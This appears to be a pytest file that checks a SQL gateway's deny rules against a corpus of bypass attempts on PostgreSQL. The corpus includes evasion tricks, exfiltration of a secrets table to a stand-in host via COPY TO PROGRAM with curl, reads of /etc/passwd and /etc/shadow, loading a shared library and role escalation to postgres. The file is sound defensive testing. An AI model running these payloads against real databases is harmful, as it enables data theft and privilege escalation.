"""Bypass attempts against two deny rules: every one must be stopped.

The rules: "deny writes (and DDL, privilege changes) to table secrets" and "deny anything
that reaches outside the data". Each attempt is what someone would try to get past a
text-matching filter: comments, case and whitespace, quoting and dollar-quoting, Unicode
escapes, several statements, writes wrapped in CTEs, EXPLAIN, cursors or PREPARE, DO blocks
and functions, COPY PROGRAM, SET ROLE and transaction tricks. The facts come from
PostgreSQL's own parser, so these resolve as the server would resolve them.
"""

from __future__ import annotations

import pytest

from gateway.policy.rules import Policy, PolicyConfig, Subject

POLICY = Policy(
    PolicyConfig.model_validate(
        {
            "rules": [
                {
                    "name": "no-secret-writes",
                    "effect": "deny",
                    "message": "writes to secrets are not allowed",
                    "match": {"kinds": ["write", "ddl", "dcl"], "tables": ["secrets"]},
                },
                {
                    "name": "no-outside-data",
                    "effect": "deny",
                    "message": "no access outside the data",
                    "match": {"flags": ["outside_data"]},
                },
            ]
        }
    )
)
WHO = Subject(user="mallory", groups=("dev",))

ATTEMPTS = [
    # plain and case/whitespace
    "insert into secrets values (1, 'x')",
    "INSERT INTO SECRETS VALUES (1)",
    "InSeRt InTo SeCrEtS vAlUeS (1)",
    "insert\ninto\tsecrets\r\nvalues (1)",
    "   \n\n  delete from secrets where id = 1   ",
    "update secrets set v = 'x' where id = 1",
    "delete from secrets",
    "delete from only secrets where id = 1",
    "update only secrets * set v = 1",
    "insert into secrets default values",
    "insert into secrets select g, 'x' from generate_series(1, 3) g",
    "merge into secrets s using (select 1 id) n on s.id = n.id when matched then delete",
    "truncate secrets",
    "truncate table only secrets cascade",
    # comments
    "/* harmless */ delete from secrets where id = 1",
    "delete/**/from/**/secrets/**/where id = 1",
    "-- just a select\ndelete from secrets where id = 1",
    "/* nested /* comment */ still */ delete from secrets where id = 1",
    "select 1 -- ; \n; delete from secrets where id = 1",
    # quoting and escapes
    'delete from "secrets" where id = 1',
    'delete from public."secrets" where id = 1',
    'delete from "public".secrets where id = 1',
    'delete from "SECRETS" where id = 1',
    'delete from U&"secr\\0065ts" where id = 1',
    "delete from U&\"!0073ecrets\" UESCAPE '!' where id = 1",
    "delete from app.public.secrets where id = 1",
    "select 'delete from secrets'; delete from secrets where id = 1",
    "select $$ ; $$; delete from secrets where id = 1",
    "select $tag$ it's $$ fine $tag$; update secrets set v = 1 where id = 2",
    # several statements
    "select 1; drop table secrets",
    "select 1;;; delete from secrets where id = 1",
    "select 1; select 2; select 3; insert into secrets values (4)",
    # CTEs, subqueries and wrappers
    "with x as (insert into secrets values (1) returning id) select * from x",
    "with x as (delete from secrets where id = 1 returning *) select count(*) from x",
    "with a as (select 1), b as (update secrets set v = 1 where id = 2 returning 1) table b",
    "explain analyze delete from secrets where id = 1",
    "explain (analyze, format json) update secrets set v = 1 where id = 1",
    "prepare p(int) as delete from secrets where id = $1",
    "prepare p as insert into secrets values (1); execute p",
    "declare c cursor for with d as (delete from secrets returning *) select * from d",
    "select * into secrets from other",
    "create table stolen as select * from secrets",
    "copy secrets from stdin",
    "copy (delete from secrets returning *) to stdout",
    "copy (insert into secrets values (9) returning *) to stdout",
    "copy public.secrets (id, v) from stdin with (format csv)",
    # DDL and privileges on the table
    "drop table secrets",
    "drop table if exists other, public.secrets cascade",
    "alter table secrets rename to not_secrets",
    "alter table secrets disable trigger all",
    "alter table secrets owner to mallory",
    "alter table secrets disable row level security",
    "grant all on secrets to public",
    "revoke select on table public.secrets from auditor",
    "comment on table secrets is 'pwned'",
    "create view v as select * from secrets",
    "create rule r as on insert to other do also delete from secrets",
    # procedural code and dynamic SQL
    "do $$ begin delete from secrets; end $$",
    "DO LANGUAGE plpgsql $body$ begin execute 'delete from ' || 'secrets'; end $body$",
    "do 'begin perform 1; end'",
    "create function f() returns void language sql as 'delete from secrets'",
    "create or replace procedure p() language plpgsql as $$ begin truncate secrets; end $$",
    "select query_to_xml('delete from secrets returning *', true, true, '')",
    "select * from dblink('dbname=app', 'delete from secrets') as t(x text)",
    "select dblink_exec('dbname=app', 'truncate secrets')",
    "create extension dblink",
    "create server evil foreign data wrapper postgres_fdw options (host 'evil.example')",
    "create user mapping for current_user server evil options (user 'x', password 'y')",
    "import foreign schema public from server evil into public",
    "create subscription s connection 'host=evil' publication p",
    # files, programs and the server
    "copy secrets to program 'curl -d @- http://evil'",
    "copy (select 1) to program 'sh -c id'",
    "copy other from program 'cat /etc/passwd'",
    "copy other to '/tmp/out.csv'",
    "copy other from '/etc/passwd'",
    "select pg_read_file('/etc/passwd')",
    "select PG_CATALOG.PG_READ_FILE('/etc/passwd')",
    "select \"pg_read_file\"('/etc/passwd')",
    "select * from pg_ls_dir('/')",
    "select x from (select pg_read_binary_file('/etc/shadow') x) s",
    "select 1 where exists (select pg_stat_file('/etc/passwd'))",
    "values (lo_import('/etc/passwd'))",
    "select lo_export(12345, '/tmp/x')",
    "alter system set log_statement = 'none'",
    "load '/tmp/evil.so'",
    "select pg_reload_conf()",
    "select pg_terminate_backend(pid) from pg_stat_activity",
    # identity changes
    "set role postgres",
    "SET ROLE TO postgres",
    'set "role" = postgres',
    "set local role postgres",
    "set session authorization postgres",
    "set session_replication_role = replica",
    "select set_config('role', 'postgres', false)",
    "select set_config('session' || '_authorization', 'postgres', true)",
    "select set_config('ROLE', 'postgres', false)",
    "select set_config(E'ro\\x6ce', 'postgres', false)",
    "select set_config(U&'r\\006Fle', 'postgres', false)",
    "select set_config('role'::text, 'postgres', false)",
    # transaction tricks
    "begin; delete from secrets where id = 1; commit",
    "start transaction read write; update secrets set v = 1 where id = 1",
    "savepoint s; truncate secrets; rollback to s",
    "commit and chain; delete from secrets where id = 1",
    "abort; drop table secrets",
    "begin; set local role postgres; commit",
    # what the parser refuses is denied, never waved through
    "delete from secrets where id = 1 /* unterminated",
    "insert into secrets values ('x",
    "select 1\0; delete from secrets",
    "delete frm secrets",
]


def test_the_corpus_is_large_and_has_no_duplicates() -> None:
    assert len(ATTEMPTS) >= 60
    assert len(set(ATTEMPTS)) == len(ATTEMPTS)


@pytest.mark.parametrize("sql", ATTEMPTS)
def test_every_bypass_attempt_is_denied_with_a_reason(sql: str) -> None:
    decision = POLICY.evaluate(WHO, "pg-main", sql)
    assert not decision.allowed, (sql, decision)
    assert decision.reason


@pytest.mark.parametrize(
    "sql",
    [
        "select * from secrets",
        "select count(*) from secrets where v like '%delete from secrets%'",
        "update other set v = 'secrets' where id = 1",
        "insert into secrets_archive values (1)",
        "begin; select * from secrets; commit",
        "explain select * from secrets",
        "copy (select * from secrets) to stdout",
        "set search_path = public",
        "reset role",
    ],
)
def test_what_the_rules_do_not_cover_passes(sql: str) -> None:
    assert POLICY.evaluate(WHO, "pg-main", sql).allowed
